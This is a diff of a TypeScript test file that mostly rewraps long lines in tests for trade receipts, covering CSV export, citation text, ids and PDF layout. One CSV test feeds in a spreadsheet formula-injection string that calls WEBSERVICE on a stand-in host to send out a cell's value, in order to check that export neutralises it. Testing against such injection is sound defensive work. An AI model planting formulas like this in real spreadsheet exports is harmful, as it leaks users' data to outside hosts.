@@ -45,10 +45,11 @@ describe('a receipt for bookkeeping', () => {
       expect(row?.['title']).toBe(/^[=+\-@\t\r\n]/.test(title) ? `'${title}` : title)
     }
     expect(csvCell('plain')).toBe('plain')
-    // A title in the line above a saved answer: cut at any spreadsheet's separator, with quotes of its own, none of its pieces is a formula.
+    // A title in the line above a saved answer: cut at any spreadsheet's separator, with quotes of its own, none of its pieces is a
+    // formula.
     const line = csvComment('Wages 1985,=WEBSERVICE("https://x.example/?a="&B3), "=1+1"; -2\r\n=3')
     for (const delimiter of [',', ';', '\t']) {
-      const [cells = []] = parse(line, { delimiter, relax_column_count: true }) as string[][]
+      const [cells = []]: string[][] = parse(line, { delimiter, relax_column_count: true })
       expect(cells.filter((cell) => /^\s*"?[=+\-@]/.test(cell))).toEqual([])
     }
     expect(line.split('\n')).toHaveLength(1)
@@ -63,14 +64,16 @@ describe('the paragraph to cite a trade by', () => {
       expect(text).toContain(part)
     }
     expect(text).toMatch(/does not enclose it.*rests on the seller’s word\.$/)
-    expect(citeReceipt(receipt, true)).toMatch(/is proved by the receipt.*that those are the program’s over this table rests on the word of seller and buyer\./)
+    expect(citeReceipt(receipt,
+      true)).toMatch(/is proved by the receipt.*that those are the program’s over this table rests on the word of seller and buyer\./)
     const helped = { ...receipt, trade: { ...receipt.trade, unprovedReplies: 2 } }
     expect(citeReceipt({ ...helped, program: null }, true)).toMatch(/relied on 2 unproved replies/)
     expect(citeReceipt(helped, true)).toMatch(/2 unproved replies of the key holder were given, of which the program shows 0\./)
   })
 
   it('says that the answer was disputed, which its state does not', async () => {
-    expect(citeReceipt(await createSettledReceipt(), null)).toContain('The buyer disputed the answer, nobody ruled on it, and both deposits were burned.')
+    expect(citeReceipt(await createSettledReceipt(),
+      null)).toContain('The buyer disputed the answer, nobody ruled on it, and both deposits were burned.')
   })
 
   it('claims no answer where there is none', async () => {
@@ -87,7 +90,8 @@ describe('the id of a receipt', () => {
     const id = receiptIdOf({ chainId, contract, purchase: 3n })
     expect(id).toBe(`hesystem-31337-${contract}-3`)
     expect(receipt.id).toBe(id)
-    expect(parse<Row>(writeReceiptCsv(receipt, null), { columns: true }).map((row) => row['receipt'])).toEqual(Array.from({ length: 6 }, () => id))
+    expect(parse<Row>(writeReceiptCsv(receipt, null), { columns: true }).map((row) => row['receipt'])).toEqual(Array.from({ length: 6 },
+      () => id))
     expect(citeReceipt(receipt, null)).toContain(`receipt ${id})`)
     expect(citeAnswer({ title: 'Wages', chainId, contract, purchase: 3n, listing: 1n, deliveredAtSeconds: 1_700_000_000 })).toMatch(new RegExp(`2023-11-14\\. Receipt ${id}\\.$`))
   })
@@ -156,7 +160,8 @@ describe('a receipt for people', () => {
 
   it('has the layout it names: what changes its bytes raises `receiptLayout`, or PDFs made before would count as changed', async () => {
     const receipt = await createSettledReceipt()
-    const begun = { ...receipt, trade: { ...receipt.trade, state: 'Paid' as const, moves: receipt.trade.moves.slice(0, 1) }, signatures: { ...receipt.signatures, buyer: null } }
+    const begun = { ...receipt, trade: { ...receipt.trade, state: 'Paid' as const, moves: receipt.trade.moves.slice(0, 1) },
+      signatures: { ...receipt.signatures, buyer: null } }
     const pages = await Promise.all([receipt, begun].map(async (each) => (await renderReceipt(each, 'pdf', 'Wages')).bytes))
     expect([receiptLayout, ...pages.map(sha256Hex)]).toMatchInlineSnapshot(`
       [
